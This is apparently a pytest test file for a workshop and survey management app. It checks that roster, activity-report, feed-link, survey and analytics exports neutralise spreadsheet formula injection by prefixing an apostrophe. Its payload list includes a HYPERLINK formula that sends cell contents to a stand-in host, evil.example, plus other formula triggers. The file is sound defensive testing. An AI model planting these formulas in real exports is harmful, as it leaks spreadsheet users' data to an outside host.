"""Formula injection: a name or title a spreadsheet would run as a formula comes back from every export as text.

The payloads arrive through the roster import and through the participant form; the exports are roster.csv,
roster.xlsx, the activity report's CSV, the feed-links CSV, the survey's CSV/XLSX and the analytics tables."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from rocb import spreadsheets
from tests.factories import make_participant, make_workshop

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,1)", "-1+1", "@x", "\t=1+1", "\r=1+1"]


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _assert_escaped_csv(body: bytes, payloads=PAYLOADS):
    cells = [cell for row in _csv_cells(body) for cell in row]
    for payload in payloads:
        assert payload not in cells, f"{payload!r} comes back as a live cell"
        assert "'" + payload in cells, f"{payload!r} is missing from the export"


def _assert_text_cells(xlsx: bytes, payloads=PAYLOADS):
    book = load_workbook(io.BytesIO(xlsx))
    # XML may read a carriage return back as a line feed (openpyxl without lxml does): compare them as one
    payloads = [p.replace("\r", "\n") for p in payloads]
    seen = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value.replace("\r", "\n") if isinstance(cell.value, str) else cell.value
                if value in payloads:
                    seen[value] = cell
    assert set(seen) == set(payloads)
    for payload, cell in seen.items():
        assert cell.data_type == "s" and cell.quotePrefix, f"{payload!r} is a live cell in the workbook"


def test_one_rule_for_every_trigger():
    for payload in PAYLOADS + ["\n=1"]:
        assert spreadsheets.cell_text(payload) == "'" + payload
    assert spreadsheets.cell_text("Somchai Jaidee") == "Somchai Jaidee"
    assert spreadsheets.cell_text(-3) == -3  # numbers stay numbers
    assert spreadsheets.imported_text("'=1+1") == "=1+1" and spreadsheets.imported_text("'tis") == "'tis"


def _roster_upload(client, workshop, rows):
    body = "name,email,administration,role\n" + "".join(
        f'"{name}",person{i}@customs.go.th,TH,formal participant\n' for i, name in enumerate(rows))
    return client.post(f"/workshops/{workshop.id}/roster/import",
                       data={"file": (io.BytesIO(body.encode()), "roster.csv")}, content_type="multipart/form-data")


def test_roster_exports_escape_names_from_the_import(staff_client):
    w = make_workshop()
    typed = PAYLOADS[:4]  # names are stripped of blanks when stored: tab/CR-prefixed ones cannot reach a roster
    assert _roster_upload(staff_client, w, [p.replace('"', '""') for p in typed]).status_code == 302
    _assert_escaped_csv(staff_client.get(f"/workshops/{w.id}/roster.csv").data, typed)
    _assert_text_cells(staff_client.get(f"/workshops/{w.id}/roster.xlsx").data, typed)


def test_a_name_from_the_form_is_escaped_and_an_exported_roster_imports_back_unchanged(staff_client):
    w = make_workshop()
    response = staff_client.post(f"/workshops/{w.id}/participants/new", data={
        "name": "+SUM(1,1)", "email": "sum@customs.go.th", "administration_code": "TH",
        "role": "formal participant", "attended": "y", "gender": ""})
    assert response.status_code == 302
    exported = staff_client.get(f"/workshops/{w.id}/roster.csv").data
    _assert_escaped_csv(exported, ["+SUM(1,1)"])
    other = make_workshop("Another workshop")
    staff_client.post(f"/workshops/{other.id}/roster/import",
                      data={"file": (io.BytesIO(exported), "roster.csv")}, content_type="multipart/form-data")
    again = _csv_cells(staff_client.get(f"/workshops/{other.id}/roster.csv").data)
    assert again[1][0] == "'+SUM(1,1)"  # the name itself is +SUM(1,1): no apostrophe piles up


def test_activity_report_csv_escapes_titles_and_notes(seeded, client):
    w = make_workshop("=HYPERLINK(\"http://evil.example\",\"x\")", sessions=[date(2021, 3, 29)],
                      other_participants_note="@x and more")
    make_participant(w, name="-1+1")
    body = client.get("/reports/activity?from=2021-01-01&to=2021-03-31&format=csv").data
    _assert_escaped_csv(body, ["=HYPERLINK(\"http://evil.example\",\"x\")", "@x and more"])


def test_feed_links_csv_escapes_names(staff_client):
    w = make_workshop()
    for i, payload in enumerate(PAYLOADS[:4]):
        make_participant(w, name=payload, email=f"p{i}@customs.go.th")
    _assert_escaped_csv(staff_client.get(f"/workshops/{w.id}/feed-links.csv").data, PAYLOADS[:4])


def test_survey_exports_escape_comments(seeded):
    from rocb.surveys import exports

    rows = [{"cycle_year": 2021, "administration_code": "TH", "administration": "Thailand", "status": "submitted",
             "submitted_at": "", "topic_code": f"T{i}", "topic": "Risk", "package": "Compliance",
             "priority": "high", "officers": 3, "mode": "online", "quarters": "Q1", "comment": payload}
            for i, payload in enumerate(PAYLOADS)]
    _assert_escaped_csv(exports.long_csv(rows))
    _assert_text_cells(exports.export_xlsx(rows))


@pytest.mark.parametrize("payload", ["@x", "\t=1+1"])
def test_analytics_tables_escape_text(payload):
    import pandas as pd

    from rocb.analytics.services import Analysis, csv_of

    table = pd.DataFrame({"administration": [payload], "officers": [-2]})
    result = Analysis(filters=None, window=None, tables={"gaps": table}, plan=(), plan_dates=(None, None),
                      undated_entities=())
    cells = _csv_cells(csv_of(result, "gaps"))
    assert cells[1] == ["'" + payload, "-2"]


def test_the_survey_template_carries_topic_names_as_text(staff_client):
    """A topic named like a formula (registry page) comes back as text in /surveys/<year>/template.xlsx."""
    from tests.surveys.conftest import make_cycle

    names = PAYLOADS[:4]  # names are stripped of blanks when stored
    for i, name in enumerate(names):
        response = staff_client.post("/topics/new", data={"code": f"evil-{i}", "name": name, "package": "Revenue"})
        assert response.status_code == 302
    make_cycle(2031, topics=["aeo"] + [f"evil-{i}" for i in range(len(names))])
    template = staff_client.get("/surveys/2031/template.xlsx?administration=TH")
    assert template.status_code == 200
    _assert_text_cells(template.data, names)
    book = load_workbook(io.BytesIO(template.data))
    assert [c.value for c in book["2031"][2]][:3] == ["TH", "aeo", "none"]  # still a template to fill in
